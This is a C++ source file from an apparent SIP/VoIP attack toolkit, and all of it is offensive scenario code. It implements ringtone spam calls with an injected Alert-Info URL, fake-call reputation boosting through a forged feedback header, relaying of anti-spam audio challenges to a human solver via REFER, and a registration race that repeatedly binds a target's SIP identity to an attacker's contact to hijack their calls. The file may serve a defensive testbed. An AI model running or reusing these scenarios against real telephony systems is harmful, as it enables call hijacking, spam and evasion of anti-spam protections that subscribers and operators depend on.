#include "sxsm/attacks/playbooks.hpp"

#include <algorithm>
#include <set>

#include <boost/algorithm/string.hpp>

namespace sxsm::attacks {

namespace {

const char* kHead =
    " SIP/2.0\n"
    "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=[branch]\n"
    "From: <sip:[field1]@[field2]>;tag=[call_number]\n";

scenario::Scenario with_name(scenario::Scenario sc, std::string name) {
    sc.name = std::move(name);
    sc.set = kStockSet;
    return sc;
}

}  // namespace

scenario::Scenario ringtone_spit_scenario(const std::string& alert_url) {
    auto invite = stock_templates().at("invite").text;
    auto pos = invite.find("Content-Type:");
    invite.insert(pos, "Alert-Info: <" + alert_url + ">\n");
    auto sc = scenario::load_scenario(R"(<scenario>
      <send>placeholder</send>
      <label name="wait"/>
      <recv status="100" jump="wait"/>
      <recv status="183" jump="wait"/>
      <recv status="180" jump="ringing"/>
      <recv status="2xx" jump="answered"/>
      <recv status="3xx" jump="failed"/>
      <recv status="4xx" jump="failed"/>
      <recv status="5xx" jump="failed"/>
      <recv status="6xx"/>
      <label name="failed"/>
      <send template="ack_failed"/>
      <stop intent="aborted"/>
      <label name="ringing"/>
      <send template="cancel"/>
      <label name="cancelling"/>
      <recv status="100" jump="cancelling"/>
      <recv status="180" jump="cancelling"/>
      <recv status="487" jump="cancelled"/>
      <recv status="2xx"/>
      <recv status="487" jump="cancelled"/>
      <recv status="2xx" jump="answered"/>
      <label name="cancelled"/>
      <send template="ack_failed"/>
      <stop/>
      <label name="answered"/>
      <send template="ack"/>
      <send template="bye"/>
      <recv status="2xx"/>
    </scenario>)");
    std::get<scenario::Send>(sc.steps[0]).text = invite;
    return with_name(std::move(sc), "ringtone_spit");
}

ReputationPush reputation_push(const ReputationPushSpec& spec) {
    std::set<std::string> distinct;
    for (const auto& r : spec.receivers) {
        if (r.identity() == spec.boosted.identity())
            throw SameAccount("the boosted identity cannot rate itself: " + r.identity());
        distinct.insert(r.identity());
    }
    if (distinct.empty()) throw SameAccount("reputation pushing needs a receiving account");
    if (spec.calls_per_receiver < 1) throw std::invalid_argument("calls_per_receiver must be >= 1");

    std::vector<std::vector<std::string>> receivers;
    for (const auto& r : spec.receivers) receivers.push_back(engine::caller_row(r));
    int total = static_cast<int>(spec.receivers.size()) * spec.calls_per_receiver;

    ReputationPush out;
    auto& reg = out.registration;
    reg.entries.push_back({stock_bundle(register_scenario()), engine::Rate::per_second(100),
                           static_cast<int>(spec.receivers.size()), "register"});
    reg.remote = spec.proxy;
    reg.local = spec.receiver_local;
    reg.callers = scenario::InjectionTable(receivers);
    reg.targets = scenario::InjectionTable({engine::target_row(spec.receivers.front(), spec.proxy.port)});
    reg.call_id_prefix = "push-reg-";

    std::string bye = "BYE sip:[remote_ip]:[remote_port] SIP/2.0\n"
                      "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=[branch]\n"
                      "From: [last_To]\n"
                      "To: [last_From]\n"
                      "Call-ID: [last_Call-ID]\n"
                      "CSeq: [cseq] BYE\n"
                      "Max-Forwards: 70\n" +
                      spec.feedback_header + ": " + spec.value + "\n" + "Content-Length: 0\n";
    auto& rx = out.receiver;
    rx.entries.push_back({stock_bundle(answering_scenario(spec.hold_ms, bye)), spec.rate, total, "push_receiver"});
    rx.remote = spec.proxy;
    rx.local = spec.receiver_local;
    rx.callers = scenario::InjectionTable(receivers);
    rx.targets = reg.targets;
    rx.call_id_prefix = "push-rx-";

    std::vector<std::vector<std::string>> targets;
    for (int round = 0; round < spec.calls_per_receiver; ++round)
        for (const auto& r : spec.receivers) targets.push_back(engine::target_row(r, spec.proxy.port));
    auto& tx = out.caller;
    tx.entries.push_back({stock_bundle(caller_awaiting_bye_scenario()), spec.rate, total, "push_caller"});
    tx.remote = spec.proxy;
    tx.local = spec.caller_local;
    tx.callers = scenario::InjectionTable({engine::caller_row(spec.boosted)});
    tx.targets = scenario::InjectionTable(std::move(targets));
    tx.call_id_prefix = "push-tx-";
    tx.recv_timeout_ms = rx.recv_timeout_ms = std::max<net::TimeMs>(4'000, spec.hold_ms + 4'000);
    auto span = spec.rate.start_offset_ms(total) + spec.hold_ms + 60'000;
    tx.global_timeout_ms = rx.global_timeout_ms = std::max<net::TimeMs>(tx.global_timeout_ms, span);
    return out;
}

scenario::Scenario captcha_relay(const sip::SipUri& victim, const sip::SipUri& solver, const SpitCallOptions& call) {
    std::string refer = "REFER " + solver.str() + kHead + "To: <" + solver.str() +
                        ">\n"
                        "Call-ID: [call_id]-refer\n"
                        "CSeq: [cseq] REFER\n"
                        "Refer-To: <" +
                        victim.str() +
                        ";challenge=[call_id]>\n"
                        "Referred-By: <sip:[field1]@[field2]>\n"
                        "Contact: <sip:[field1]@[local_ip]:[local_port]>\n"
                        "Max-Forwards: 70\n"
                        "Content-Length: 0\n";
    std::string xml = R"(<scenario>
      <send template="invite"/>
      <label name="wait"/>
      <recv status="100" jump="wait"/>
      <recv status="180" jump="wait"/>
      <recv status="183" jump="challenge"/>
      <recv status="2xx" jump="answered"/>
      <recv status="3xx" jump="failed"/>
      <recv status="4xx" jump="failed"/>
      <recv status="5xx" jump="failed"/>
      <recv status="6xx"/>
      <label name="failed"/>
      <send template="ack_failed"/>
      <stop intent="aborted"/>
      <label name="challenge"/>
      <send>placeholder</send>
      <label name="referring"/>
      <recv status="100" jump="referring"/>
      <recv status="2xx" jump="wait"/>
      <recv status="3xx" jump="wait"/>
      <recv status="4xx" jump="wait"/>
      <recv status="5xx" jump="wait"/>
      <recv status="6xx" jump="wait"/>
      <label name="answered"/>
      <send template=")" +
                      std::string(call.payload ? "ack_spit" : "ack") + R"("/>)";
    if (call.media_ms > 0) xml += "<pause ms=\"" + std::to_string(call.media_ms) + "\"/>";
    xml += R"(<send template="bye"/><recv status="2xx"/></scenario>)";
    auto sc = scenario::load_scenario(xml);
    for (auto& step : sc.steps)
        if (auto* s = std::get_if<scenario::Send>(&step); s && s->template_name.empty() && s->text == "placeholder")
            s->text = refer;
    return with_name(std::move(sc), "captcha_relay");
}

void require_solver(const defenses::Registrar& registrar, const sip::SipUri& solver, net::TimeMs now) {
    if (!registrar.lookup(solver.identity(), now))
        throw SolverUnreachable("solver " + solver.identity() + " is not registered");
}

HumanSolver::HumanSolver(net::Transport& transport, sip::SipUri identity, net::Address proxy)
    : transport_(transport), identity_(std::move(identity)), proxy_(std::move(proxy)) {
    transport_.on_receive([this](const net::Address& from, const std::string& bytes) { on_message(from, bytes); });
}

void HumanSolver::register_now() {
    auto local = transport_.local();
    auto msg = sip::SipMessage::request("REGISTER", sip::SipUri::parse("sip:" + identity_.host));
    msg.add_header("Via", "SIP/2.0/UDP " + local.str() + ";branch=z9hG4bK-solver-reg-" + std::to_string(++cseq_));
    msg.add_header("From", "<" + identity_.str() + ">;tag=solver");
    msg.add_header("To", "<" + identity_.str() + ">");
    msg.add_header("Call-ID", "solver-reg-" + identity_.identity());
    msg.add_header("CSeq", std::to_string(cseq_) + " REGISTER");
    msg.add_header("Contact", "<sip:" + identity_.user + "@" + local.str() + ">");
    msg.add_header("Expires", "3600");
    msg.add_header("Content-Length", "0");
    transport_.send(proxy_, sip::serialize(msg));
}

void HumanSolver::send_info(const net::Address& to, const std::string& call_id, const std::string& body) {
    auto local = transport_.local();
    auto msg = sip::SipMessage::request("INFO", identity_);
    msg.add_header("Via", "SIP/2.0/UDP " + local.str() + ";branch=z9hG4bK-solver-" + std::to_string(++cseq_));
    msg.add_header("From", "<" + identity_.str() + ">;tag=solver");
    msg.add_header("To", "<" + identity_.str() + ">");
    msg.add_header("Call-ID", call_id);
    msg.add_header("CSeq", std::to_string(cseq_) + " INFO");
    msg.add_header("Content-Type", "text/plain");
    msg.add_header("Content-Length", std::to_string(body.size()));
    msg.body = body;
    transport_.send(to, sip::serialize(msg));
}

void HumanSolver::on_message(const net::Address& from, const std::string& bytes) {
    sip::SipMessage msg;
    try {
        msg = sip::parse(bytes);
    } catch (const sip::ParseError&) {
        return;
    }
    if (msg.is_request() && msg.method() == "REFER") {
        auto reply = sip::SipMessage::response(202, "Accepted");
        for (auto name : {"Via", "From", "To", "Call-ID", "CSeq"})
            for (auto v : msg.headers_named(name))
                reply.add_header(name, std::string(v) + (std::string_view(name) == "To" ? ";tag=solver" : ""));
        reply.add_header("Content-Length", "0");
        transport_.send(from, sip::serialize(reply));
        ++referrals_;
        auto refer_to = msg.header("Refer-To");
        if (!refer_to) return;
        auto pos = refer_to->find("challenge=");
        if (pos == std::string_view::npos) return;
        auto end = refer_to->find_first_of(";>", pos);
        std::string challenged(refer_to->substr(pos + 10, end == std::string_view::npos ? end : end - pos - 10));
        send_info(from, challenged, "listen\r\n");
        return;
    }
    if (msg.is_response() && msg.cseq_method() == "INFO" && msg.status() == 200) {
        auto pos = msg.body.find("digits=");
        if (pos == std::string::npos) return;
        auto end = msg.body.find_first_of("\r\n", pos);
        auto digits = msg.body.substr(pos + 7, end == std::string::npos ? end : end - pos - 7);
        send_info(from, msg.call_id(), "answer=" + digits + "\r\n");
        ++solved_;
    }
}

scenario::Scenario registration_race(const sip::SipUri& target, const net::Address& contact, int interval_ms) {
    if (interval_ms <= 0) throw std::invalid_argument("interval must be positive");
    std::string reg = "REGISTER sip:" + target.host + " SIP/2.0\n" +
                      "Via: SIP/2.0/UDP [local_ip]:[local_port];branch=[branch]\n"
                      "From: <" +
                      target.str() + ">;tag=[call_number]\n" + "To: <" + target.str() +
                      ">\n"
                      "Call-ID: [call_id]\n"
                      "CSeq: [cseq] REGISTER\n"
                      "Contact: <sip:" +
                      target.user + "@" + contact.str() +
                      ">\n"
                      "Expires: 3600\n"
                      "Max-Forwards: 70\n"
                      "Content-Length: 0\n";
    auto sc = scenario::load_scenario(R"(<scenario>
      <send>placeholder</send>
      <recv status="2xx" jump="again"/>
      <stop intent="aborted"/>
      <label name="again"/>
      <pause ms="1"/>
      <send>placeholder</send>
      <recv status="2xx" jump="again"/>
    </scenario>)");
    for (auto& step : sc.steps) {
        if (auto* s = std::get_if<scenario::Send>(&step)) s->text = reg;
        if (auto* p = std::get_if<scenario::Pause>(&step)) p->ms = interval_ms;
    }
    return with_name(std::move(sc), "registration_race");
}

engine::ShootPlan registration_race_plan(scenario::Scenario race, const net::Address& proxy,
                                         const net::Address& local) {
    engine::ShootPlan plan;
    plan.entries.push_back({stock_bundle(std::move(race)), engine::Rate::per_second(1), 1, "registration_race"});
    plan.remote = proxy;
    plan.local = local;
    plan.callers = scenario::InjectionTable({{"", "registrar", proxy.ip}});
    plan.targets = scenario::InjectionTable({{"registrar", proxy.ip, std::to_string(proxy.port)}});
    plan.global_timeout_ms = 365LL * 86'400'000;
    plan.call_id_prefix = "race-";
    return plan;
}

}  // namespace sxsm::attacks
